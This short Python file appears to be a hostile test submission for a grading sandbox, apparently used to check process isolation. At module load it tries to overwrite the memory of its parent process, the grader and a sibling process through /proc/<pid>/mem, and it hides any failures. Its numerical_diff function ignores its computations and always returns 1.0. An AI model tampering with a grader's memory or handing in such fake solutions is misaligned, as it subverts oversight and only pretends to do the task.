"""Writes into the memory of the process that started it and of the grader."""

import os

for pid in (os.getppid(), @GRADER@, @SIBLING@):
    try:
        with open(f"/proc/{pid}/mem", "r+b", buffering=0) as file:
            file.seek(0x400000)
            file.write(b"attacked")
    except (OSError, ValueError):
        pass


def numerical_diff(f, x):
    f(x + 1e-4), f(x - 1e-4)
    return 1.0
